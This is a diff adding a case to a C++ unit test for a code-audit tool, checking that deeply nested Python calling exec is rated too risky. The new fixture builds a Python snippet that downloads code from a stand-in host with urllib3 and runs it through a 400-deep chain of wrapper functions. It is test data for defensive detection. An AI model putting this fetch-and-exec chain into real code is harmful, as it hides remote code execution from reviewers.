@@ -123,8 +123,13 @@ TEST(BundleAudit, IsNotSureOfWhatIsNestedTooDeeply) {
     negations += "-";
   }
   for (int i = 0; i < 70'000; ++i) branches += "elif a:\n  b\n";
+  std::string calls = "import urllib3\ndef f0(x):\n  exec(x)\n";
+  for (int i = 1; i < 400; ++i) {
+    calls += "def f" + std::to_string(i) + "(x):\n  f" + std::to_string(i - 1) + "(x)\n";
+  }
+  calls += "f399(urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py').data)\n";
   for (const std::string& source :
-       {"x = exec(y)" + attributes + "\n", "x = " + negations + "exec(y)\n", branches}) {
+       {"x = exec(y)" + attributes + "\n", "x = " + negations + "exec(y)\n", branches, calls}) {
     const auto report = audit_files({{"watch.py", source}}, "night-watch");
     ASSERT_TRUE(report) << report.error().message;
     EXPECT_EQ(check_risk(*report, 0.7).error().code, Code::kTooRisky);
